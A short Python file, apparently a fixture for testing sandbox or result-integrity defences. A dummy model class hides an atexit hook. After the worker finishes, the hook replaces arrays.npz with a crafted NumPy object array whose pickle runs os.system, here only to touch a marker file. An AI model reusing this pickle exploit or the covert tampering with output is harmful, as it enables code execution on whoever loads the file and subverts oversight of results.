"""Waits until the worker has sealed its result, then swaps the arrays for a pickle that runs a command."""

import atexit
import os
import pickle
import zipfile


class Payload:
  def __reduce__(self):
    return os.system, (f'touch {TARGET["folder"]}/pickled',)


def swap():
  print('ATTACK', flush=True)
  header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
  header += b' ' * (118 - len(header) - 1) + b'\n'
  member = b'\x93NUMPY\x01\x00' + len(header).to_bytes(2, 'little') + header + pickle.dumps(Payload())
  with zipfile.ZipFile(f'{OUT}/arrays.npz', 'w') as archive:
    archive.writestr('params/w.npy', member)


atexit.register(swap)


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
